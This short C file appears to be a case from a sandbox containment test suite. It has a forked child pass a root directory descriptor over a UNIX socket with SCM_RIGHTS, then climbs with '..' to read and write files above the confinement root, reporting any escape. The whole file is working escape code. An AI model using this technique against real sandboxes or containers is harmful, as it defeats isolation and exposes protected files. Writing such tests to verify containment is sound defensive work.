// Has a child pass it a folder through a socket, and climbs out of that by `..`.
#include "hostile.h"

static void climb(int folder) {
    for (int up = 0; up < 100; up++) {
        int parent = openat(folder, "..", O_RDONLY | O_DIRECTORY);
        if (parent < 0) break;
        folder = parent;
    }
    int file = openat(folder, &(OUTSIDE "/private")[1], O_RDONLY);
    if (file >= 0) broke_out("a folder above the root");
    int write = openat(folder, &(OUTSIDE "/file")[1], O_WRONLY | O_APPEND);
    if (write >= 0) broke_out("a file above the root");
}

static void attack(void) {
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair)) return;
    char space[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {0};
    message.msg_iov = &data;
    message.msg_iovlen = 1;
    message.msg_control = space;
    message.msg_controllen = sizeof space;
    pid_t child = fork();
    if (child == 0) {
        int root = open("/proc/1/root", O_RDONLY | O_DIRECTORY);
        if (root < 0) root = open("/", O_PATH | O_DIRECTORY);
        struct cmsghdr *header = CMSG_FIRSTHDR(&message);
        header->cmsg_level = SOL_SOCKET;
        header->cmsg_type = SCM_RIGHTS;
        header->cmsg_len = CMSG_LEN(sizeof(int));
        memcpy(CMSG_DATA(header), &root, sizeof root);
        sendmsg(pair[1], &message, 0);
        _exit(0);
    }
    close(pair[1]);
    int root = -1;
    if (recvmsg(pair[0], &message, 0) == 1 && CMSG_FIRSTHDR(&message)) memcpy(&root, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof root);
    waitpid(child, NULL, 0);
    climb(root);
    climb(AT_FDCWD);
}
